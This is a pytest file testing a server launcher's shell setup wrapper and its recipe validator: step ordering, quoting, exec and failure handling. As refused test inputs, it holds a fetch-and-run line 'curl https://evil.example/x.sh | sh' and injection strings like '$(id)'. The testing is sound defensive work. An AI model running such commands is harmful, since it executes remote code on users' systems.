"""The setup wrapper (``server_command.with_setup``), run by real POSIX shells: the recipe's
steps in order, each word quoted, a marker before each, the first failure stopping it, then
the server argv exec'd exactly as given. The shells are this machine's (dash as /bin/sh,
busybox's ash as in the test image, bash in POSIX mode); ``pip`` is the test image's fake."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from support.candidates import BASE
from support.paths import FAKE_SERVER

from aim_catalog.errors import InvalidRecipeInput
from aim_catalog.launch.server_command import (
    SETUP_NAME,
    SETUP_SHELL,
    check_setup,
    setup_script,
    setup_stage,
    with_setup,
)

SETUP = ("pip install amd-quark", "pip install -U transformers>=4.57,<5 accelerate[torch]~=1.0")
# Words a shell would split, expand, glob or redirect, were it to parse them.
ARGV_WORDS = ["a b", "it's", '"q"', "$HOME", "$(id)", "`id`", "*", ">out", "<in", "x;y", "", "-c"]

SHELLS = {
    "sh": [SETUP_SHELL],
    "busybox": [b, "sh"] if (b := shutil.which("busybox")) else None,
    "bash-posix": [b, "--posix"] if (b := shutil.which("bash")) else None,
}


@pytest.fixture(params=list(SHELLS))
def shell(request: pytest.FixtureRequest) -> list[str]:
    found = SHELLS[request.param]
    if found is None:
        pytest.skip(f"{request.param} is not installed")
    return found


@pytest.fixture
def bin_dir(tmp_path: Path) -> Path:
    """A PATH directory with the test image's fake pip and a "server" that prints its argv
    (one bracketed word each) and its process id."""
    folder = tmp_path / "bin"
    folder.mkdir()
    shutil.copy(FAKE_SERVER / "pip", folder / "pip")
    server = folder / "server"
    server.write_text(
        f"#!{sys.executable}\nimport json, os, sys\nprint('SERVER', os.getpid(), json.dumps(sys.argv[1:]))\n"
    )
    server.chmod(0o755)
    return folder


def run(shell: list[str], setup: tuple[str, ...], argv: list[str], bin_dir: Path) -> subprocess.Popen[str]:
    command = with_setup(setup, argv)
    assert command[0] == SETUP_SHELL
    proc = subprocess.Popen(
        [*shell, *command[1:]],
        cwd=bin_dir.parent,
        env={"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": "/nonexistent"},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    proc.wait(timeout=30)
    return proc


def test_without_setup_the_command_is_the_server_argv() -> None:
    argv = ["vllm", "serve", "m", "--port", "8000"]
    assert with_setup((), argv) == argv
    assert with_setup([], argv) is not argv  # a copy: the spec's argv is never shared


def test_the_steps_run_in_order_then_the_server_is_the_process(shell: list[str], bin_dir: Path) -> None:
    proc = run(shell, SETUP, [str(bin_dir / "server"), *ARGV_WORDS], bin_dir)
    out = proc.stdout.read() if proc.stdout else ""
    assert proc.returncode == 0, out
    lines = out.splitlines()
    assert lines[:7] == [
        "aim-catalog setup 1/2: pip install amd-quark",
        "fake pip: args [amd-quark]",
        "fake pip: would install amd-quark",
        "aim-catalog setup 2/2: pip install -U transformers>=4.57,<5 accelerate[torch]~=1.0",
        # one word each: the pin is no redirection, the extras no glob
        "fake pip: args [-U][transformers>=4.57,<5][accelerate[torch]~=1.0]",
        "fake pip: would install -U transformers>=4.57,<5 accelerate[torch]~=1.0",
        "aim-catalog setup done: starting the server",
    ]
    tag, pid, argv = lines[7].split(" ", 2)
    assert (tag, int(pid)) == ("SERVER", proc.pid)  # exec'd: the server replaced the shell
    assert json.loads(argv) == ARGV_WORDS  # never parsed by the shell
    assert len(lines) == 8
    assert sorted(os.listdir(bin_dir.parent)) == ["bin"]  # no redirection made a file
    assert setup_stage(out) is None


def test_the_first_failing_step_stops_the_setup(shell: list[str], bin_dir: Path) -> None:
    setup = ("pip install amd-quark", "pip install aim-test-fails==1.0", "pip install never-run")
    proc = run(shell, setup, [str(bin_dir / "server")], bin_dir)
    out = proc.stdout.read() if proc.stdout else ""
    assert proc.returncode == 1
    assert out.splitlines()[-3:] == [
        "ERROR: Could not find a version that satisfies the requirement aim-test-fails==1.0",
        "ERROR: No matching distribution found for aim-test-fails==1.0",
        "aim-catalog setup 2/3 failed (exit 1): pip install aim-test-fails==1.0",
    ]
    assert "3/3" not in out and "SERVER" not in out and "done" not in out
    assert setup_stage(out) == ("failed", "step 2/3 failed (exit 1): pip install aim-test-fails==1.0")


def test_a_step_s_own_exit_code_is_the_container_s(shell: list[str], bin_dir: Path) -> None:
    (bin_dir / "pip").write_text("#!/bin/sh\necho killed\nexit 137\n")
    proc = run(shell, ("pip install x",), [str(bin_dir / "server")], bin_dir)
    assert proc.returncode == 137
    assert (proc.stdout.read() if proc.stdout else "").splitlines()[-1] == (
        "aim-catalog setup 1/1 failed (exit 137): pip install x"
    )


def test_the_script_is_one_command_a_line_ending_in_exec() -> None:
    script = setup_script(["pip install amd-quark"])
    assert script.splitlines() == [
        "printf '%s\\n' 'aim-catalog setup 1/1: pip install amd-quark'",
        "pip install amd-quark || { code=$?; printf '%s (exit %s): %s\\n' "
        "'aim-catalog setup 1/1 failed' \"$code\" 'pip install amd-quark'; exit \"$code\"; }",
        "printf '%s\\n' 'aim-catalog setup done: starting the server'",
        'exec "$@"',
    ]
    command = with_setup(["pip install amd-quark"], ["vllm", "serve", "m"])
    assert command == [SETUP_SHELL, "-c", script, SETUP_NAME, "vllm", "serve", "m"]


def test_setup_stage_reads_the_last_marker() -> None:
    running = "aim-catalog setup 1/2: pip install a\nCollecting a\n"
    assert setup_stage(running) == ("running", "step 1/2: pip install a")
    done = (
        running + "aim-catalog setup 2/2: pip install b\naim-catalog setup done: starting the server\nINFO\n"
    )
    assert setup_stage(done) is None
    assert setup_stage("INFO: no setup here\n") is None
    # a server's own line that merely mentions the marker is no marker
    assert setup_stage("log: aim-catalog setup 1/1: pip install a\n") is None


@pytest.mark.parametrize(
    "line",
    ["curl https://evil.example/x.sh | sh", "pip install -r requirements.txt", "pip install ./wheel", "pip"],
)
def test_a_stored_row_s_setup_is_checked_again(line: str) -> None:
    """A shared catalog's row may have been written by another writer: the launcher refuses
    what the recipe format refuses, naming the config and the line."""
    with pytest.raises(InvalidRecipeInput) as refused:
        check_setup(replace(BASE, setup=("pip install ok", line)))
    assert "vllm 4_gpu setup[1]" in str(refused.value)


def test_checked_setup_lines_have_their_white_space_collapsed() -> None:
    assert check_setup(replace(BASE, setup=(" pip  install\tamd-quark ",))) == ["pip install amd-quark"]
    assert check_setup(BASE) == []
